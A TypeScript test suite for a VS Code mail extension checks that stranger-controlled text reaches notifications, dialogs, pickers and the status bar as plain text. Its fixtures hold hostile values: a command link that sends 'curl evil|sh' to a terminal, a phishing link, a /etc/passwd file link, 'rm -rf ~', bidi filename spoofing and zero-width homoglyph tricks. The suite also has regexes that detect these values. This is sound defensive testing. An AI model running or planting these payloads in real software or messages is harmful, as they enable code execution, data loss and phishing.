import * as assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import type * as Surfaces from '../../../src/ui/surfaces';
import { UiText, joinTexts, ui } from '../../../src/ui/text';
import { FakeEditor, installFakeVscode } from '../../support/fakeVscode';

/** Values a stranger controls: a subject, a display name, a folder name, a server's error text. */
const hostile: Record<string, string> = {
  'command link': '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  'https link': '[Your invoice](https://evil.example/phish)',
  'file link with title': '[notes](file:///etc/passwd "notes")',
  'nested brackets': '[[Run]](command:mailroom.signOut)',
  'link split by a line break': '[Run]\n(command:mailroom.signOut)',
  markdown: '**urgent** _now_ `rm -rf ~` # heading <b>bold</b> <img src=x>',
  'icon syntax': '$(alert) $(loading~spin) Security alert',
  bidi: 'invoice\u202Efdp.exe\u202C and \u2066isolate\u2069 \u200Fmark',
  'control characters': 'line one\nline two\r\u0007\u001b[31mred\u0000',
  'zero-width': 'pay\u200Bpal\u2060.com\ufeff',
  '10 kB': 'A'.repeat(10_000),
};

const LINK = /\[([^\]]*)\]\s*\(((?:https?:\/\/|command:|file:)[^)\s]*)/i;
const ICON = /\$\([\w.~-]+\)/;
// eslint-disable-next-line no-control-regex
const INVISIBLE_OR_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/;
/** The icons Mailroom itself puts before a label; text after them is what the check is about. */
const OWN_ICON_PREFIX = /^\$\((send|edit|close|error|mail)\) /;

function assertRenderedPlainly(surface: string, text: string): void {
  const withoutOwnIcon = text.replace(OWN_ICON_PREFIX, '');
  assert.doesNotMatch(withoutOwnIcon, LINK, `${surface}: a link survived in ${JSON.stringify(text.slice(0, 120))}`);
  assert.doesNotMatch(withoutOwnIcon, ICON, `${surface}: icon syntax survived`);
  assert.doesNotMatch(text, INVISIBLE_OR_CONTROL, `${surface}: a control, bidi or invisible character survived`);
  assert.ok(text.length <= 2000, `${surface}: ${text.length} characters`);
}

describe('Text from strangers on editor surfaces [SEC-29a]', () => {
  describe('the ui tag', () => {
    for (const [name, value] of Object.entries(hostile)) {
      it(`neutralises a ${name} value and keeps its words readable`, () => {
        const text = ui`New mail from ${value}: ${value}`;
        assertRenderedPlainly('ui', text.value);
        assert.ok(text.value.startsWith('New mail from '), 'Mailroom’s own words are kept as written');
        const words = value.match(/[A-Za-z]{3,}/g) ?? [];
        for (const word of words.slice(0, 5)) {
          assert.ok(text.value.includes(word.slice(0, 3)), `"${word}" is still shown`);
        }
      });
    }

    it('bounds each value, so one long subject cannot push the rest out', () => {
      const text = ui`${hostile['10 kB']} from ${'alice@example.com'}`;
      assert.ok(text.value.length < 500, `${text.value.length} characters`);
      assert.ok(text.value.endsWith(' from alice@example.com'));
    });

    it('shows the command link as its text: brackets become parentheses, the target stays visible', () => {
      assert.equal(ui`${'[Run](command:x)'}`.value, '(Run)(command:x)');
    });

    it('keeps a composed text as it is (no double neutralising) and numbers as numbers', () => {
      const inner = ui`Retry ${'[a]'}`;
      assert.equal(ui`${inner} (${3} left)`.value, 'Retry (a) (3 left)');
    });

    it('joins texts with line breaks that stay line breaks (dialog details)', () => {
      assert.equal(joinTexts([ui`one`, ui`${'two\nthree'}`], '\n').value, 'one\ntwo three');
    });

    it('cannot be made from a raw string, not even at run time', () => {
      const forge = UiText as unknown as new (key: symbol, value: string) => UiText;
      assert.throws(() => new forge(Symbol('ui'), '[x](command:y)'), TypeError);
    });
  });

  describe('every surface', () => {
    const editor = new FakeEditor();
    let restore: () => void;
    let surfaces: typeof Surfaces;

    before(() => {
      restore = installFakeVscode(editor);
      // Loaded after the fake is in place: the module reaches for `vscode` as it loads.
      surfaces = createRequire(__filename)('../../../src/ui/surfaces') as typeof Surfaces;
    });
    after(() => restore());
    beforeEach(() => {
      editor.rendered.length = 0;
    });

    const uses: Record<string, (value: string) => Promise<unknown>> = {
      notification: (value) => surfaces.notify('info', ui`New mail from ${value}: ${value}`, ui`Open`),
      'warning with an action': (value) => surfaces.notify('warning', ui`Mailroom did not open this link. ${value}`, ui`${value}`),
      'error message': (value) => surfaces.notify('error', ui`Not sent: ${value}`),
      'modal dialog': (value) => surfaces.askModal('warning', ui`Open ${value} in your browser?`, ui`${value}`, ui`Open Link`),
      'progress title': (value) => Promise.resolve(surfaces.withProgress({ title: ui`Sending to ${value}…`, where: 'notification' }, async () => undefined)),
      picker: (value) =>
        surfaces.pickOne([{ icon: 'send', label: ui`${value}`, description: ui`to ${value}`, detail: ui`Not sent: ${value}` }], {
          title: ui`${value}`,
          placeHolder: ui`${value}`,
        }),
      'live picker': async (value) => {
        const picker = new surfaces.LivePicker({ title: ui`Send to ${value}`, placeHolder: ui`${value}`, canSelectMany: true });
        picker.items = [{ icon: 'error', label: ui`${value}`, description: ui`${value}` }];
        picker.dispose();
      },
      'input box': (value) => surfaces.askText({ title: ui`${value}`, prompt: ui`${value}`, placeHolder: ui`${value}`, validate: () => ui`${value}` }),
      'status bar': async (value) => {
        const item = new surfaces.StatusItem({ id: 'test', name: ui`${value}`, alignment: 'right', priority: 1 });
        item.show('mail', ui`${value}`, ui`unread in ${value}`);
        item.dispose();
      },
    };

    for (const [surface, use] of Object.entries(uses)) {
      it(`${surface}: hostile values reach the editor as plain text`, async () => {
        for (const [name, value] of Object.entries(hostile)) {
          editor.rendered.length = 0;
          await use(value);
          assert.ok(editor.rendered.length > 0, `${surface} rendered nothing for ${name}`);
          for (const rendered of editor.rendered) {
            assertRenderedPlainly(`${rendered.surface} (${name})`, rendered.text);
          }
        }
      });
    }

    it('the check above sees a link when one gets through (positive control)', () => {
      assert.throws(() => assertRenderedPlainly('raw', hostile['command link']), /a link survived/);
      assert.throws(() => assertRenderedPlainly('raw', hostile['icon syntax']), /icon syntax/);
      assert.throws(() => assertRenderedPlainly('raw', hostile.bidi), /bidi/);
    });

    it('resolves to the very action object that was chosen', async () => {
      const open = ui`Open`;
      editor.choose = 0;
      assert.equal(await surfaces.notify('info', ui`New mail`, open), open);
      editor.choose = undefined;
      assert.equal(await surfaces.notify('info', ui`New mail`, open), undefined);
      editor.choose = 0;
    });
  });
});
